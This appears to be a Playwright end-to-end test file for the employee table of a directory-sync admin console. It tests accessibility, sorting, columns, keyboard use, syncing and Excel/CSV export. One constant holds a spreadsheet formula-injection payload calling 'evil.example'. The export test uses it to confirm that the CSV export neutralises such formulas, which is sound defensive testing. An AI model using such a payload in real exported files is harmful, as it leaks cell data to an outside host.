import { readFile } from "node:fs/promises";
import { readXlsx } from "hucre/xlsx";
import type { Locator, Page } from "playwright-core";
import { beforeAll, expect, test } from "vitest";
import { syncStates } from "../../../src/api/employees.ts";
import { picturedPeople } from "../ordinary-people.ts";
import { syncedCompany } from "../synced-company.ts";
import { employeesOf, startSync } from "./choose-people.ts";
import { describeConsole, expectAccessible, keepPicture, type Look, withConsole } from "./with-console.ts";

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Se her")';

describeConsole("the employees as a table", () => {
  const { scene, open } = withConsole({
    company: (images) => syncedCompany(60, images),
    settings: { SYNC_TARGETS: "entra,photo,signature" },
  });
  const person = (n: number) => picturedPeople(scene())[n] ?? expect.fail(`Nobody is number ${n}.`);

  beforeAll(async () => {
    await scene().sync();
    await scene().life.changeTitle(person(1), formula);
    await scene().sync({ mode: "preview" });
  });

  const openTable = async (look: Look = {}): Promise<Page> => {
    const page = await open({ width: 1440, height: 900, ...look, at: look.at ?? "employees" });
    await page.getByRole("button", { name: "Table", exact: true }).click();
    await rows(page).first().waitFor();
    return page;
  };

  const looks: readonly (readonly [string, Look])[] = [
    ["light", {}],
    ["dark", { colors: "dark" }],
    ["contrast", { colors: "dark", forced: true }],
    ["1024", { width: 1024, height: 768 }],
    ["1024-dark", { width: 1024, height: 768, colors: "dark" }],
    ["narrow", { width: 360, height: 740 }],
    ["narrow-dark", { width: 360, height: 740, colors: "dark" }],
  ];
  test.for(looks)("is as accessible as the cards, and no wider than the page: %s", async ([name, look]) => {
    const page = await openTable(look);
    await page.waitForLoadState("networkidle");
    await expectAccessible(page);
    await page.waitForFunction("document.documentElement.scrollWidth <= innerWidth");
    await keepPicture(page, `employee-table-${name}`);
    await page.getByRole("button", { name: "By office" }).click();
    await page.getByRole("heading", { level: 2 }).first().waitFor();
    await expectAccessible(page);
    await keepPicture(page, `employee-table-by-office-${name}`);
  });

  test("cuts no address while there is empty room beside it", async () => {
    const page = await openTable();
    const cut = await rows(page).evaluateAll((all) =>
      all.flatMap((row) =>
        [...row.querySelectorAll("td")]
          .filter((cell) => cell.textContent?.includes("@") && cell.scrollWidth > cell.clientWidth)
          .map((cell) => cell.textContent),
      ),
    );
    expect(cut).toEqual([]);
  });

  test("is sorted by its headers, which say so, also in the address", async () => {
    const people = await employeesOf(scene());
    const page = await openTable();
    const header = (name: string) => page.getByRole("columnheader", { name, exact: true });
    expect(await header("Name").getAttribute("aria-sort")).toBe("ascending");
    await header("State").getByRole("button").click();
    expect(await header("State").getAttribute("aria-sort")).toBe("ascending");
    expect(await header("Name").getAttribute("aria-sort")).toBeNull();
    const pressing = Math.min(...people.map(({ standing }) => syncStates.indexOf(standing)));
    await expect.poll(() => rows(page).first().getAttribute("data-standing")).toBe(syncStates[pressing]);
    await header("State").getByRole("button").click();
    expect(await header("State").getAttribute("aria-sort")).toBe("descending");
    await expect.poll(() => rows(page).first().getAttribute("data-standing")).toBe("in-step");
    await header("E-mail").getByRole("button").press("Enter");
    await header("E-mail").getByRole("button").press("Enter");
    expect(await header("E-mail").getAttribute("aria-sort")).toBe("descending");
    const [last] = people
      .map(({ email }) => email)
      .toSorted()
      .reverse();
    await expect.poll(() => rows(page).first().getAttribute("data-email")).toBe(last);
    expect(page.url()).toMatch(/sort=email&order=desc/);
    await page.reload();
    await rows(page).first().waitFor();
    expect(await header("E-mail").getAttribute("aria-sort")).toBe("descending");
  });

  test("has the columns that are chosen, a column for each target, and remembers them", async () => {
    const page = await openTable();
    const headers = () => page.getByRole("columnheader").allInnerTexts();
    expect((await headers()).filter(Boolean)).toEqual([
      "Name",
      "Title",
      "E-mail",
      "Office",
      "State",
      "Profile",
      "Photo",
      "Signature",
    ]);
    await page.getByRole("button", { name: "Columns" }).click();
    await page.getByRole("menuitemcheckbox", { name: "Title" }).click();
    await page.getByRole("menuitemcheckbox", { name: "Changes" }).click();
    await keepPicture(page, "employee-table-columns");
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "By office" }).click();
    await page.reload();
    await rows(page).first().waitFor();
    await page.getByRole("heading", { level: 2 }).first().waitFor();
    expect((await headers()).filter((text) => text && !text.includes("\n"))).toEqual([
      "Name",
      "E-mail",
      "State",
      "Profile",
      "Photo",
      "Signature",
      "Changes",
    ]);
  });

  test("says which columns have no room", async () => {
    const page = await openTable({ width: 360, height: 740 });
    await page.getByRole("button", { name: "Columns" }).click();
    await page.getByText("No room at this width: Title, Office, Profile, Photo, Signature").waitFor();
    await keepPicture(page, "employee-table-columns-narrow");
  });

  test("is worked through by keys: the arrows move, Space selects, Enter opens, and the focus comes back", async () => {
    const page = await openTable();
    await link(page, 0).focus();
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Space");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Shift+Space");
    await page.getByRole("region", { name: "Selected employees" }).getByText("2 selected").waitFor();
    await expectAccessible(page);
    await page.keyboard.press("Enter");
    await page.getByRole("dialog").getByRole("tab", { name: "Why" }).waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await expect.poll(() => link(page, 2).evaluate((one) => one === document.activeElement)).toBe(true);
  });

  test("opens a person by a click anywhere on their row", async () => {
    const page = await openTable();
    await rows(page).nth(3).getByRole("cell").nth(2).click();
    await page.getByRole("dialog").getByRole("tab", { name: "Why" }).waitFor();
  });

  test("selects all that is shown at once, and none after what was selected is written", async () => {
    const page = await openTable({ at: `employees?q=${person(1)}` });
    await page.getByRole("checkbox", { name: "Select all shown" }).check();
    const bar = page.getByRole("region", { name: "Selected employees" });
    await bar.getByText("1 selected").waitFor();
    await bar.getByRole("button", { name: "Dry run and sync…" }).click();
    const dialog = page.getByRole("dialog", { name: /^Sync / });
    await startSync(dialog, "1 person");
    await dialog.getByText("The sync is done").first().waitFor();
    await dialog.getByRole("button", { name: "Close" }).click();
    await bar.waitFor({ state: "detached" });
    expect(await page.getByRole("checkbox", { checked: true }).count()).toBe(0);
    expect(scene().microsoft.users.get(person(1))?.jobTitle).toBe(formula);
  });

  test("syncs all that is shown, which begins with a dry run", async () => {
    const { office } = (await employeesOf(scene()))[0] ?? expect.fail("There is no one.");
    const count = (await employeesOf(scene())).filter((one) => one.office === office).length;
    const page = await openTable({ at: `employees?office=${encodeURIComponent(office ?? "")}` });
    await page.getByRole("button", { name: "Sync all shown…" }).click();
    const dialog = page.getByRole("dialog", { name: `Sync ${count} people` });
    await dialog
      .getByText(/would change|Everything is in step/)
      .first()
      .waitFor();
    await page.keyboard.press("Escape");
  });

  test("is exported as Excel and as CSV: who is shown, in their order, with the chosen columns", async () => {
    const page = await openTable({ at: `employees?q=${person(1)}` });
    const excel = await exported(page, "Excel (.xlsx)");
    expect(excel.name).toMatch(/^employees-\d{4}-\d\d-\d\d\.xlsx$/);
    const [sheet] = (await readXlsx(excel.content)).sheets;
    const [header, row, ...others] = sheet?.rows ?? [];
    expect(header).toEqual(["Name", "E-mail", "Title", "Office", "State", "Profile", "Photo", "Signature"]);
    expect(row?.slice(1, 3)).toEqual([person(1), formula]);
    expect(others).toEqual([]);
    const csv = await exported(page, "CSV");
    expect(csv.name).toMatch(/^employees-\d{4}-\d\d-\d\d\.csv$/);
    expect(csv.content.toString("utf8")).toContain(`\r\n`);
    expect(csv.content.toString("utf8")).toContain(`,${person(1)},"'=HYPERLINK(`);
  });

  test("is drawn as it scrolls into view, sorted and exported, with a hundred thousand people", async () => {
    const page = await open({ width: 1440, height: 900 });
    const [model] = await employeesOf(scene());
    const employees = Array.from({ length: 100_000 }, (_, n) => ({
      ...model,
      email: `person.${n}@fjordbo.example`,
      name: `Person ${String(n).padStart(6, "0")}`,
      office: `Office ${String(n % 400).padStart(3, "0")}`,
      hasPhoto: false,
    }));
    await page.route(/\/api\/employees(\?|$)/, (route) =>
      route.fulfill({ json: { asOf: null, run: null, employees } }),
    );
    await page.evaluate('localStorage.setItem("entra-sync-employees-layout", "table")');
    await page.reload();
    await page.goto(`${page.url().split("#")[0]}#/employees`);
    await page.getByText("100,000 people", { exact: true }).waitFor();
    await link(page, 0).focus();
    for (const key of ["PageDown", "End"]) {
      await page.keyboard.press(key);
      expect(await rows(page).count()).toBeLessThan(100);
    }
    await expect.poll(() => link(page, 99_999).evaluate((one) => one === document.activeElement)).toBe(true);
    await page.getByRole("columnheader", { name: "E-mail" }).getByRole("button").click();
    await page.getByRole("columnheader", { name: "E-mail" }).getByRole("button").click();
    await page.keyboard.press("Home");
    await page.locator("main").evaluate((main) => main.scrollTo({ top: 0 }));
    const [last = ""] = employees
      .map(({ email }) => email)
      .toSorted()
      .reverse();
    await rows(page).first().getByText(last).waitFor();
    const { content } = await exported(page, "Excel (.xlsx)");
    const [sheet] = (await readXlsx(content)).sheets;
    expect(sheet?.rows).toHaveLength(100_001);
    expect(sheet?.rows[1]?.[1]).toBe(last);
    await keepPicture(page, "employee-table-hundred-thousand");
  });
});

const rows = (page: Page): Locator => page.locator("tr[data-email]");
const link = (page: Page, place: number): Locator => page.locator(`[data-place="${place}"] a`);

/** What an entry of the menu *Export* saves. */
async function exported(page: Page, item: string): Promise<{ name: string; content: Buffer }> {
  await page.getByRole("button", { name: "Export" }).click();
  const file = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: item }).click();
  const download = await file;
  return { name: download.suggestedFilename(), content: await readFile(await download.path()) };
}
